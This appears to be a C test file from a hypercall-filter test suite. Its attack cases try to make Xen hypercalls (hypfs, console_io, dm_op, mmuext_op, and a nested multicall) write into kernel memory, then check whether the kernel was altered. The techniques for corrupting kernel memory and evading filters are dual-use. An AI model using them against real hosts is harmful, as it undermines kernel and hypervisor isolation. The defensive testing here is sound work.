// SPDX-License-Identifier: GPL-2.0-only
/*
 * U-KMEM through the hypercalls that have but one or two operations that
 * write: machine checks, kexec, hypfs, consoles, device models, page tables and
 * lists of calls.
 */
#include "kmem.h"

#include <xen/hypfs.h>
#include <xen/kexec.h>
#include <xen/arch-x86/xen-mca.h>
#include <xen/hvm/dm_op.h>

/* U-KMEM-HYPFS: a file of Xen's; some of them can be written before. */
KMEM_ATTACK("U-KMEM-HYPFS", "a file of hypfs into the kernel")
{
    static const char path[] = "/buildinfo/compileinfo/compile_date";
    char *copy = buffer(PAGE_SIZE);

    strcpy(copy, path);
    return hypercall(__HYPERVISOR_hypfs_op, XEN_HYPFS_OP_read, (uintptr_t)copy,
                     sizeof(path), victim(), 100);
}

/* U-KMEM-SERIAL: what has been typed on the serial line. */
KMEM_ATTACK("U-KMEM-SERIAL", "input of the serial line into the kernel")
{
    long typed = hypercall3(__HYPERVISOR_console_io, CONSOLEIO_read, 16,
                            victim());

    return typed ? typed : cannot_show("nobody types on this serial line");
}

/* U-KMEM-DMOP: 4 bytes, how many vCPUs another domain has. */
KMEM_ATTACK("U-KMEM-DMOP", "a buffer of the device model's in the kernel")
{
    const struct xen_dm_op op = { .op = XEN_DMOP_nr_vcpus };
    struct xen_dm_op_buf buf = { .size = sizeof(op) };

    buf.h.p = (void *)in_host_name(&op, offsetof(struct xen_dm_op, u));
    return hypercall3(__HYPERVISOR_dm_op, other_domain(DOMU_HVM), 1, &buf);
}

/*
 * U-KMEM-MMUEXT: 4 bytes, the same for mmuext_op.
 *
 * As some of its operations do nothing, the length of the list, and so the
 * number, is the attacker's to choose. A PVH dom0 may have none done but for a
 * PV domain.
 */
KMEM_ATTACK("U-KMEM-MMUEXT", "a chosen count of mmuext_op into the kernel")
{
    const bool pv = dom0_is_pv();
    const unsigned int count = pv ? 7 : 0;
    struct mmuext_op *flushes = buffer(PAGE_SIZE);

    for ( unsigned int i = 0; i < count; i++ )
        flushes[i].cmd = MMUEXT_TLB_FLUSH_LOCAL;
    return hypercall4(__HYPERVISOR_mmuext_op, flushes, count, victim(),
                      pv ? DOMID_SELF : other_domain(DOMU_PV));
}

#define multicall(nr, list) hypercall2(__HYPERVISOR_multicall, list, nr)
#include "other.def"

/*
 * U-MULTICALL-NEST: hide the call in a list of calls within a list of calls.
 *
 * The outer list shows a filter nothing but another multicall.
 */
ATTACK("U-MULTICALL-NEST",
       "write to the kernel from a multicall in a multicall")
{
    multicall_entry_t *list = buffer(PAGE_SIZE), *outer = buffer(PAGE_SIZE);
    char before[MARK_SIZE], after[MARK_SIZE];

    list[0] = (multicall_entry_t){ .op = __HYPERVISOR_xen_version,
                                   .args = { XENVER_guest_handle, victim() } };
    outer[0] = (multicall_entry_t){ .op = __HYPERVISOR_multicall,
                                    .args = { (uintptr_t)list, 1 } };
    outer[1] = (multicall_entry_t){ .op = __HYPERVISOR_xen_version,
                                    .args = { XENVER_version } };

    read_victim(before, sizeof(before));
    hypercall2(__HYPERVISOR_multicall, outer, 2);
    read_victim(after, sizeof(after));

    if ( memcmp(before, after, sizeof(before)) )
        return effect(true, "the kernel's version zeroed");
    if ( outer[1].result && (long)outer[0].result == -EINVAL )
        return not_applicable("Xen itself takes no list within a list");
    return effect(false, "the kernel's version unchanged");
}
